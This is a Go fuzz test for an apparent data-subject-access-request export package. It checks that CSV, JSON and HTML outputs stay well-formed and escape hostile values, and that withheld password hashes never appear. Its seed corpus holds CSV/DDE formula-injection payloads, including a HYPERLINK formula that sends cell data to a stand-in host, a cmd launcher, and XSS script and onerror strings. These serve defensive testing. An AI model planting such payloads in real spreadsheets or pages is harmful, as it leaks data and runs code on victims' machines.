package export_test

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"math"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/dsar-project/dsar/internal/datamap"
	"github.com/dsar-project/dsar/internal/export"
)

// Fuzz targets for the package writers: whatever a company's database
// holds about a person (quotes, line breaks, NUL, bytes that are not
// UTF-8, spreadsheet formulas, markup, infinite numbers) comes out as a
// well-formed CSV, valid JSON and escaped HTML. go test runs the seeds;
// docs/fuzzing.md says how to fuzz for longer.

const fuzzShopMap = `version: 1
systems:
  - name: shop
    kind: sqlite
    dsn_env: FUZZ_SHOP_DSN
    tables:
      - name: people
        primary_key: id
        identities: {email: email}
        columns:
          email: user.contact.email
          name: user.name
          note: user.content.private
          score: user.behavior
          password: user.authorization.credentials
        erase: delete
`

// fuzzColumns are the people table's columns, in table order; "=1+1" is
// a column the map does not know, which SELECT * still reads.
var fuzzColumns = []string{"id", "email", "name", "note", "score", "password", "=1+1"}

type fuzzShop struct {
	conn  *datamap.SQLConnector
	found *datamap.Found
}

func newFuzzShop(tb testing.TB) *fuzzShop {
	tb.Helper()
	m, err := datamap.Parse("fuzz.yaml", []byte(fuzzShopMap))
	if err != nil {
		tb.Fatal(err)
	}
	// No fsync: the file is thrown away, and fuzzing writes it thousands
	// of times.
	db, kind, err := datamap.OpenSQL("sqlite:" + filepath.Join(tb.TempDir(), "shop.db") + "?_pragma=synchronous(0)&_pragma=journal_mode(WAL)")
	if err != nil {
		tb.Fatal(err)
	}
	tb.Cleanup(func() { db.Close() })
	if _, err := db.Exec(`CREATE TABLE people (id INTEGER PRIMARY KEY, email TEXT, name TEXT, note BLOB, score REAL, password TEXT, "=1+1" TEXT)`); err != nil {
		tb.Fatal(err)
	}
	sys := m.System("shop")
	rows := []*datamap.FoundRow{{Key: []any{int64(1)}, Owned: true}, {Key: []any{int64(2)}, Owned: true}}
	return &fuzzShop{
		conn:  datamap.NewSQLConnector(sys, db, kind),
		found: &datamap.Found{System: sys, Tables: []*datamap.FoundTable{{Table: sys.Table("people"), Rows: rows}}},
	}
}

// put stores two rows: the hostile values, and the same text in other
// columns, so every column meets every value.
func (s *fuzzShop) put(tb testing.TB, name string, note []byte, score float64) {
	tb.Helper()
	for _, row := range [][]any{
		{int64(1), "ada@example.com", name, note, score, "$argon2id$secret", name},
		{int64(2), name, string(note), []byte(name), -score, nil, string(note)},
	} {
		if _, err := s.conn.DB.Exec(`INSERT OR REPLACE INTO people VALUES (?, ?, ?, ?, ?, ?, ?)`, row...); err != nil {
			tb.Fatal(err)
		}
	}
}

func FuzzWriteExport(f *testing.F) {
	for _, s := range []struct {
		name, note string
		score      float64
		org, other string
	}{
		{"Ada Lovelace", "likes engines", 42.5, "Example Ltd", "Deleted by hand."},
		{`Ada "The Countess" Lovelace`, "a,b,c", -1, `Quote "Ltd"`, ""},
		{"Ada\nLovelace", "line\r\nbreak\rcarriage", 0, "Multi\nLine", "note\r\n"},
		{"Ada\x00Lovelace", "\x00\x00", math.Inf(1), "Org\x00", "\x00"},
		{"Ad\xffa", "\xc3\x28\xed\xa0\x80", math.Inf(-1), "\xfe\xff", "\xff"},
		{"=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")", "+cmd|' /C calc'!A0", math.NaN(), "=1+1", "@SUM(A1:A9)"},
		{"-2+3", "@import", math.Copysign(0, -1), "+44 20 7946 0000", "-"},
		{"\tleading tab", "\rleading carriage return", math.MaxFloat64, " ", "\t"},
		{"<script>alert(1)</script>", "</td></tr></table><img src=x onerror=alert(1)>", math.SmallestNonzeroFloat64, "<b>Org</b>", "<i>note</i>"},
		{`\.`, "", 1e-300, "", ""},
		{"'already quoted", `"`, 7, "'", `""`},
		{"名前 😀 \u202eevil\u2028", "\ufeffBOM", 3.14, "Société Générale", "ünïcödé"},
	} {
		f.Add(s.name, []byte(s.note), s.score, s.org, s.other)
	}
	shop := newFuzzShop(f)
	f.Fuzz(func(t *testing.T, name string, note []byte, score float64, org, other string) {
		shop.put(t, name, note, score)
		meta := export.Meta{RequestID: "DSR-FUZZ000001", Organisation: org, GeneratedAt: time.Date(2026, 3, 2, 10, 0, 0, 0, time.UTC),
			Others: []export.Other{{System: "crm", Kind: "webhook", Note: other, Records: json.RawMessage(`[{"name":` + jsonString(name) + `}]`)},
				{System: "paper", Kind: "manual", Note: other}}}
		sources := []export.Source{{Conn: shop.conn, Found: shop.found}}

		var b bytes.Buffer
		if err := export.WriteExport(context.Background(), &b, sources, meta); err != nil {
			t.Fatalf("WriteExport: %v", err)
		}
		files := unzip(t, b.Bytes())
		records := readCSV(t, files["shop/people.csv"])
		if len(records) != 3 {
			t.Fatalf("people.csv has %d records, want a header and 2 rows:\n%q", len(records), files["shop/people.csv"])
		}
		for i, rec := range records {
			for j, cell := range rec {
				if unsafeCell(cell) && !(i > 0 && fuzzColumns[j] == "score") {
					t.Fatalf("people.csv record %d column %s starts with a formula character: %q", i, fuzzColumns[j], cell)
				}
			}
		}
		if got, want := records[1][2], csvWant(name); got != want {
			t.Fatalf("name read back as %q, want %q", got, want)
		}
		if got := records[1][5]; got != export.Withheld {
			t.Fatalf("password column holds %q, want it withheld", got)
		}
		var rows []map[string]any
		mustJSON(t, "shop/people.json", files["shop/people.json"], &rows)
		if len(rows) != 2 || len(rows[0]) != len(fuzzColumns) {
			t.Fatalf("people.json rows %v", rows)
		}
		var man export.Manifest
		mustJSON(t, "manifest.json", files["manifest.json"], &man)
		if len(man.Tables) != 1 || man.Tables[0].Rows != 2 || len(man.Others) != 2 {
			t.Fatalf("manifest %+v", man)
		}
		mustJSON(t, "crm/records.json", files["crm/records.json"], new(any))

		b.Reset()
		if err := export.WriteAccess(context.Background(), &b, sources, meta); err != nil {
			t.Fatalf("WriteAccess: %v", err)
		}
		files = unzip(t, b.Bytes())
		var data struct {
			Organisation string `json:"organisation"`
			Tables       []struct {
				Rows []map[string]any `json:"rows"`
			} `json:"tables"`
			Others []export.Other `json:"other_systems"`
		}
		mustJSON(t, "data.json", files["data.json"], &data)
		if len(data.Tables) != 1 || len(data.Tables[0].Rows) != 2 || len(data.Others) != 2 {
			t.Fatalf("data.json holds %+v", data)
		}
		report := string(files["report.html"])
		for _, v := range []string{name, string(note), org, other} {
			if strings.Contains(v, "<") && strings.Contains(report, v) {
				t.Fatalf("report.html holds %q unescaped", v)
			}
		}
		if strings.Contains(report, "$argon2id$secret") {
			t.Fatal("report.html holds a withheld value")
		}
	})
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

func unzip(t *testing.T, b []byte) map[string][]byte {
	t.Helper()
	z, err := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	if err != nil {
		t.Fatalf("not a ZIP: %v", err)
	}
	files := map[string][]byte{}
	for _, f := range z.File {
		r, err := f.Open()
		if err != nil {
			t.Fatal(err)
		}
		files[f.Name], err = io.ReadAll(r)
		r.Close()
		if err != nil {
			t.Fatalf("%s: %v", f.Name, err)
		}
	}
	return files
}

// readCSV reads a whole CSV, every record with as many fields as the
// header.
func readCSV(t *testing.T, b []byte) [][]string {
	t.Helper()
	r := csv.NewReader(bytes.NewReader(b))
	records, err := r.ReadAll()
	if err != nil {
		t.Fatalf("CSV does not read back: %v\n%q", err, b)
	}
	for i, rec := range records {
		if len(rec) != len(fuzzColumns) {
			t.Fatalf("CSV record %d has %d fields, want %d", i, len(rec), len(fuzzColumns))
		}
	}
	return records
}

func mustJSON(t *testing.T, name string, b []byte, v any) {
	t.Helper()
	if !json.Valid(b) {
		t.Fatalf("%s is not valid JSON:\n%q", name, b)
	}
	if err := json.Unmarshal(b, v); err != nil {
		t.Fatalf("%s: %v", name, err)
	}
}

// unsafeCell reports whether a spreadsheet would read the cell as a
// formula.
func unsafeCell(s string) bool {
	return s != "" && strings.ContainsRune("=+-@\t\r", rune(s[0]))
}

// csvWant is a text value as it reads back from the CSV: guarded with an
// apostrophe when it starts like a formula, and with the line breaks
// encoding/csv gives back.
func csvWant(s string) string {
	if unsafeCell(s) {
		s = "'" + s
	}
	return strings.ReplaceAll(s, "\r\n", "\n")
}
